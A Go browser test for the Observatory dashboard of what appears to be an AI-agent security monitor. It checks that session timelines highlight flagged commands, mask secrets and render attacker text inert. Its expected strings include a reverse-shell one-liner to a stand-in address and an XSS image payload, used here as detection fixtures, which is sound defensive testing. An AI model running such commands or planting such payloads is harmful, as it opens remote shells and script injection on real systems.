package observatory_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/picketsec/picket/host/internal/browsertest"
)

// TestBrowser loads every page of the Observatory in a real headless
// Chromium against a seeded store, checks the key elements and saves a
// screenshot of each page.
func TestBrowser(t *testing.T) {
	t.Parallel()
	bctx := browsertest.Start(t, 150*time.Second)
	f := newFixture(t, "sqlite")
	arts := browsertest.Artifacts(t, "observatory")

	// Collect page errors and CSP violations.
	var mu sync.Mutex
	var problems []string
	messages := chromedp.Console(bctx)
	go func() {
		for m, err := range messages {
			if err != nil {
				return
			}
			if (m.Type == chromedp.ConsoleError || m.IsException()) && !strings.Contains(m.Text, "401") {
				mu.Lock()
				problems = append(problems, m.String())
				mu.Unlock()
			}
		}
	}()

	do := func(step string, steps ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		browsertest.Do(t, bctx, 20*time.Second, step, steps...)
	}
	text := func(sel string) string {
		t.Helper()
		return run(t, bctx, "text of "+sel, chromedp.Text(chromedp.CSS(sel)))
	}
	count := func(sel string) int {
		t.Helper()
		return run(t, bctx, "count "+sel, chromedp.Evaluate[int](`document.querySelectorAll(`+jsString(sel)+`).length`))
	}
	shot := func(name string) {
		t.Helper()
		png := run(t, bctx, "screenshot "+name, chromedp.FullScreenshot(100))
		if err := os.WriteFile(filepath.Join(arts, name+".png"), png, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	storedKey := func() string {
		t.Helper()
		return run(t, bctx, "session storage", chromedp.Evaluate[string](`sessionStorage.getItem("picket.apiKey") || ""`))
	}
	base := f.srv.URL + "/ui/"

	// Login: a wrong key is refused, the right one lands on the overview.
	do("open", chromedp.Navigate(base), chromedp.WaitVisible(chromedp.ID("api-key")))
	shot("00-login")
	do("wrong key",
		chromedp.SendKeys(chromedp.ID("api-key"), "not-a-key"),
		chromedp.Click(chromedp.ID("login-submit")),
		chromedp.WaitVisible(chromedp.ID("login-error")))
	if msg := text("#login-error"); !strings.Contains(msg, "refused") {
		t.Errorf("wrong key message %q", msg)
	}
	do("login",
		chromedp.Evaluate[chromedp.Void](`document.getElementById("api-key").value = ""`),
		chromedp.SendKeys(chromedp.ID("api-key"), "acme-key"),
		chromedp.Click(chromedp.ID("login-submit")),
		chromedp.WaitVisible(chromedp.CSS("#chart-decisions svg")))
	cards, bars, catCharts, latencyPaths := count("#totals .card"), count("#chart-decisions rect"), count("#category-charts .chart"), count("#chart-latency path")
	totalEvents := text(`#totals [data-key="events"] .n`)
	if n := count(`#recent-events tr[data-event]`); n != 7 {
		t.Errorf("overview lists %d recent events with findings, want 7", n)
	}
	shot("01-overview")
	if cards != 8 || bars < 5 || catCharts != 3 || latencyPaths != 2 || totalEvents != "13" {
		t.Errorf("overview: %d cards, %d bars, %d category charts, %d latency lines, %q events", cards, bars, catCharts, latencyPaths, totalEvents)
	}
	if k := storedKey(); k != "acme-key" {
		t.Errorf("session storage holds %q", k)
	}

	// Events, filtered from the hash and from the toolbar.
	do("events", chromedp.Navigate(base+"#/events?decision=block"), chromedp.WaitVisible(chromedp.CSS(`#events-table tr[data-event]`)))
	if n := count(`#events-table tr[data-event]`); n != 2 {
		t.Errorf("blocked events: %d rows, want 2", n)
	}
	shot("01b-events-blocked")
	do("events would block",
		chromedp.Navigate(base+"#/events"),
		chromedp.WaitVisible(chromedp.CSS(`#events-table tr[data-event]`)),
		chromedp.Click(chromedp.ID("ev-would")),
		chromedp.WaitVisible(chromedp.CSS(`#ev-would:checked`)),
		// The filtered table is drawn after a fetch: wait for rows, and
		// for none that the filter leaves out (an empty table between the
		// two draws has no modify row either; CI once counted it).
		chromedp.Poll[chromedp.Void](`!document.querySelector("#view .loading") && document.querySelector("#events-table tr[data-event]") !== null && !document.querySelector('#events-table tr[data-decision="modify"]')`))
	if n := count(`#events-table tr[data-event]`); n != 5 {
		t.Errorf("would-block events: %d rows, want 5", n)
	}

	// Sessions list.
	do("sessions", chromedp.Navigate(base+"#/sessions"), chromedp.WaitVisible(chromedp.CSS(`#sessions-table tr[data-session]`)))
	rows, sessText := count(`#sessions-table tr[data-session]`), text("#sessions-table")
	shot("02-sessions")
	if rows != 3 || !strings.Contains(sessText, "alice@example.com") || !strings.Contains(sessText, "codex_cli_rs") {
		t.Errorf("sessions: %d rows: %s", rows, sessText)
	}

	// Sessions filtered by agent (from the hash), then by risk, login and
	// a time range from the toolbar.
	// change sets a toolbar control as a user would and waits for the
	// page it leads to: a marker put into the view is gone (the view was
	// rendered again) and nothing is loading.
	change := func(id, value string) chromedp.Action[chromedp.Void] {
		return chromedp.Steps(
			chromedp.Evaluate[chromedp.Void](`(function () { var m = document.createElement("i"); m.id = "stale"; document.getElementById("view").appendChild(m);
				var c = document.getElementById(`+jsString(id)+`); c.value = `+jsString(value)+`; c.dispatchEvent(new Event("change")); })()`),
			chromedp.Poll[chromedp.Void](`!document.getElementById("stale") && !document.querySelector("#view .loading") && document.querySelector("#view table tbody tr") !== null`),
		)
	}
	do("sessions by agent", chromedp.Navigate(base+"#/sessions?agent=codex_cli_rs"), chromedp.WaitVisible(chromedp.CSS(`#sessions-table tr[data-session="acme-sess-codex-bob"]`)))
	if n := count(`#sessions-table tr[data-session]`); n != 1 {
		t.Errorf("sessions of codex_cli_rs: %d rows", n)
	}
	do("sessions by risk",
		change("sess-agent", ""), chromedp.WaitVisible(chromedp.CSS(`#sessions-table tr[data-session="acme-sess-claude-alice"]`)),
		change("sess-min-risk", "50"), chromedp.WaitNotPresent(chromedp.CSS(`#sessions-table tr[data-session="acme-sess-codex-bob"]`)))
	if n, risk := count(`#sessions-table tr[data-session]`), text(`#sessions-table tr[data-session] td:nth-child(2)`); n != 1 || risk != "52" {
		t.Errorf("critical sessions: %d rows, risk %s", n, risk)
	}
	do("sessions by login", change("sess-min-risk", ""), change("sess-login", "bob@example.com"),
		chromedp.WaitVisible(chromedp.CSS(`#sessions-table tr[data-session="acme-sess-codex-bob"]`)),
		chromedp.WaitNotPresent(chromedp.CSS(`#sessions-table tr[data-session="acme-sess-claude-alice"]`)))
	if h := run(t, bctx, "hash", chromedp.Evaluate[string](`location.hash`)); !strings.Contains(h, "login=bob%40example.com") {
		t.Errorf("the login filter is not in the hash: %s", h)
	}
	do("sessions in a time range", change("sess-login", ""), chromedp.WaitVisible(chromedp.CSS(`#sessions-table tr[data-session="acme-sess-claude-alice"]`)),
		change("sess-range", "custom"), chromedp.WaitVisible(chromedp.ID("sess-to")),
		change("sess-to", "2000-01-01T00:00"), chromedp.WaitNotPresent(chromedp.CSS(`#sessions-table tr[data-session]`)))
	if msg := text("#sessions-table td.empty"); msg != "No sessions match." {
		t.Errorf("empty range: %q", msg)
	}
	do("sessions since the range's start", change("sess-to", ""), chromedp.WaitVisible(chromedp.CSS(`#sessions-table tr[data-session]`)))
	if n := count(`#sessions-table tr[data-session]`); n != 3 {
		t.Errorf("sessions of the last day: %d rows, want 3", n)
	}
	do("sessions, all filters", chromedp.EmulateViewport(1280, 900),
		chromedp.Navigate(base+"#/sessions?agent=claude-cli&min_risk=40&since=720h&login=alice%40example.com"),
		chromedp.WaitVisible(chromedp.CSS(`#sessions-table tr[data-session="acme-sess-claude-alice"]`)))
	browsertest.Shot(t, bctx, arts, "02b-sessions-filtered-1280", 1280)

	// A session's timeline: items, findings (redacted), decisions.
	do("session timeline",
		chromedp.Click(chromedp.CSS(`#sessions-table tr[data-session="acme-sess-claude-alice"] a`)),
		chromedp.WaitVisible(chromedp.CSS("#timeline li.event")))
	events, blocks, findings := count("#timeline li.event"), count(`#timeline .badge[data-decision="block"]`), count("#timeline table.findings tbody tr")
	timeline := text("#timeline")
	shot("03-session-timeline")
	if events != 5 || blocks != 2 || findings != 3 || !strings.Contains(timeline, "AKIA************") || !strings.Contains(timeline, "bash -i") {
		t.Errorf("timeline: %d events, %d blocks, %d findings:\n%s", events, blocks, findings, timeline)
	}

	// Evidence: the command shown and its span highlighted, the secret's
	// mask marked, taxonomy ids beside each finding.
	marks, chips := count("#timeline pre.item-text mark"), count("#timeline .taxonomy .tax")
	if marks != 3 || chips < 10 || !strings.Contains(timeline, "T1059.004") || !strings.Contains(timeline, "LLM02:2025") ||
		count(`#timeline code.evidence`) != 2 {
		t.Errorf("evidence: %d marks, %d taxonomy chips, %d evidence cells", marks, chips, count(`#timeline code.evidence`))
	}
	if m := text("#timeline pre.item-text mark.m-command"); m != "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" {
		t.Errorf("highlighted command = %q", m)
	}

	// Content written by an attacker is shown as text, never run.
	do("hostile item text", chromedp.Navigate(base+"#/sessions/acme-sess-codex-bob"), chromedp.WaitVisible(chromedp.CSS("#timeline li.event")))
	imgs, timeline := count("#timeline img"), text("#timeline")
	shot("04-session-injection")
	if imgs != 0 || !strings.Contains(timeline, "<img src=x onerror=alert(1)>") || !strings.Contains(timeline, "would block") {
		t.Errorf("hostile text: %d img elements; timeline:\n%s", imgs, timeline)
	}

	// Threats: every category shows.
	do("threats", chromedp.Navigate(base+"#/threats"), chromedp.WaitVisible(chromedp.CSS(`#threats-table tr[data-category]`)))
	rows, threatText := count(`#threats-table tr[data-category]`), text("#threats-table")
	shot("05-threats")
	for _, want := range []string{"secrets", "injection", "command", "xoxb************", "Reverse shell"} {
		if !strings.Contains(threatText, want) {
			t.Errorf("threats lack %q", want)
		}
	}
	if rows != 7 {
		t.Errorf("threats: %d rows, want 7 counting findings", rows)
	}
	do("threats filtered", chromedp.Navigate(base+"#/threats?category=command"), chromedp.WaitVisible(chromedp.CSS(`#threats-table tr[data-category="command"]`)))
	if rows := count(`#threats-table tr[data-category]`); rows != 3 {
		t.Errorf("command threats: %d rows", rows)
	}

	// Threats by tool, from the hash and from the toolbar; every category
	// of the list is offered; a time range before the trail is empty.
	do("threats by tool", chromedp.Navigate(base+"#/threats?tool=Bash&since=all"), chromedp.WaitVisible(chromedp.CSS(`#threats-table tr[data-tool="Bash"]`)))
	if n, all := count(`#threats-table tr[data-category]`), count(`#threats-table tr[data-tool="Bash"]`); n != 2 || all != 2 {
		t.Errorf("Bash threats: %d rows, %d of Bash", n, all)
	}
	do("threats by another tool", change("threat-tool", "WebFetch"), chromedp.WaitVisible(chromedp.CSS(`#threats-table tr[data-tool="WebFetch"]`)),
		chromedp.WaitNotPresent(chromedp.CSS(`#threats-table tr[data-tool="Bash"]`)))
	if cats := run(t, bctx, "categories", chromedp.Evaluate[string](`Array.prototype.map.call(document.querySelectorAll("#threat-category option"), function (o) { return o.value; }).join(",")`)); cats != ",secrets,injection,command,exfiltration,injection_chain,quarantine,detector_failure" {
		t.Errorf("category facet offers %s", cats)
	}
	do("threats in a time range", chromedp.Navigate(base+"#/threats?since=2000-01-01T00%3A00%3A00Z&until=2000-02-01T00%3A00%3A00Z"),
		chromedp.WaitVisible(chromedp.ID("threat-from")), chromedp.WaitVisible(chromedp.CSS(`#threats-table td.empty`)))
	if v := run(t, bctx, "range", chromedp.Evaluate[string](`document.getElementById("threat-range").value + " " + document.getElementById("threat-from").value.slice(0, 4)`)); v != "custom 2000" && v != "custom 1999" {
		t.Errorf("custom range shows %q", v)
	}
	do("threats, facets together", chromedp.Navigate(base+"#/threats?since=720h&category=command&decision=block&min_severity=critical&detector=commands&tool=Bash&agent=claude-cli"),
		chromedp.WaitVisible(chromedp.CSS(`#threats-table tr[data-tool="Bash"]`)))
	if n := count(`#threats-table tr[data-category]`); n != 1 {
		t.Errorf("critical blocked Bash commands of claude-cli: %d rows, want 1", n)
	}
	browsertest.Shot(t, bctx, arts, "05b-threats-facets-1280", 1280)

	// The filtered views at 420 px: inside the viewport, toolbars wrap.
	do("narrow", chromedp.EmulateViewport(420, 860))
	for i, page := range []string{"threats?since=720h&tool=Bash", "sessions?min_risk=40&agent=claude-cli",
		"threats?since=2000-01-01T00%3A00%3A00Z&until=2000-02-01T00%3A00%3A00Z", "sessions?since=2000-01-01T00%3A00%3A00Z&until=2000-02-01T00%3A00%3A00Z"} {
		do(page+" at 420", chromedp.Navigate(base+"#/"+page), chromedp.WaitVisible(chromedp.CSS(`#view table tbody tr`)))
		if w := run(t, bctx, "width", chromedp.Evaluate[int](`document.documentElement.scrollWidth`)); w != 420 {
			t.Errorf("%s at 420 px: the page is %d px wide", page, w)
		}
		browsertest.Shot(t, bctx, arts, fmt.Sprintf("05c-%d-%s-filtered-420", i, strings.SplitN(page, "?", 2)[0]), 420)
	}
	do("wide again", chromedp.EmulateViewport(1280, 900))

	// Detectors: whatever objects GET /v1/detectors returns.
	do("detectors", chromedp.Navigate(base+"#/detectors"), chromedp.WaitVisible(chromedp.CSS(`#detectors-table tr[data-detector]`)))
	rows, detText := count(`#detectors-table tr[data-detector]`), text("#detectors-table")
	shot("06-detectors")
	if rows != 3 || !strings.Contains(detText, "wasm") || !strings.Contains(detText, "degraded") || !strings.Contains(detText, "2.90 ms") {
		t.Errorf("detectors: %d rows:\n%s", rows, detText)
	}

	// Tools & Agents: block rates and latency per agent and per tool.
	do("usage", chromedp.Navigate(base+"#/usage"), chromedp.WaitVisible(chromedp.CSS(`#agents-table tr[data-name]`)))
	shot("06b-usage")
	if n, usage := count(`#agents-table tr[data-name]`), text("#view"); n != 3 || !strings.Contains(usage, "claude-cli") || !strings.Contains(usage, "Bash") || !strings.Contains(usage, " ms") {
		t.Errorf("usage: %d agents:\n%s", n, usage)
	}

	// Event page, then sign out.
	do("event page", chromedp.Navigate(base+"#/events/"+f.acme.Events[1]), chromedp.WaitVisible(chromedp.CSS("#timeline li.event")))
	shot("07-event")

	// Triage: a false positive, marked by a named operator, answers the
	// allowlist entry to paste; the threats page filters by it.
	do("triage false positive",
		chromedp.SendKeys(chromedp.ID("operator"), "alice@example.com"),
		chromedp.SetValue(chromedp.CSS(`#timeline .triage[data-finding="0"] select`), "false_positive"),
		chromedp.SendKeys(chromedp.CSS(`#timeline .triage[data-finding="0"] .tri-note`), "documented example key"),
		chromedp.Click(chromedp.CSS(`#timeline .triage[data-finding="0"] .tri-mark`)),
		chromedp.WaitVisible(chromedp.CSS(`#timeline pre.allowlist`)))
	if al := text("#timeline pre.allowlist"); !strings.Contains(al, `detector "secrets"`) || !strings.Contains(al, "allow_fingerprints") ||
		!strings.Contains(al, "marked by alice@example.com") || !strings.Contains(al, "documented example key") {
		t.Errorf("allowlist entry:\n%s", al)
	}
	if st := text(`#timeline .triage[data-finding="0"] .tri-state`); st != "false positive" {
		t.Errorf("triage state shown %q", st)
	}
	shot("07b-event-triaged")
	do("threats by triage", chromedp.Navigate(base+"#/threats?triage=false_positive&since=all"), chromedp.WaitVisible(chromedp.CSS(`#threats-table tr[data-triage="false_positive"]`)))
	if rows := count(`#threats-table tr[data-category]`); rows != 1 {
		t.Errorf("false-positive threats: %d rows", rows)
	}
	do("sign out", chromedp.Click(chromedp.ID("logout")), chromedp.WaitVisible(chromedp.ID("api-key")))
	if k := storedKey(); k != "" {
		t.Errorf("key left in session storage after sign out")
	}

	mu.Lock()
	defer mu.Unlock()
	for _, p := range problems {
		t.Errorf("browser: %s", p)
	}
	t.Logf("screenshots in %s", arts)
}

// run runs one chromedp action that returns a value, failing the test on error.
func run[T any](t *testing.T, ctx context.Context, step string, a chromedp.Action[T]) T {
	t.Helper()
	v, err := chromedp.Run(ctx, a)
	if err != nil {
		t.Fatalf("%s: %v", step, err)
	}
	return v
}

func jsString(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`)
	return `"` + r.Replace(s) + `"`
}
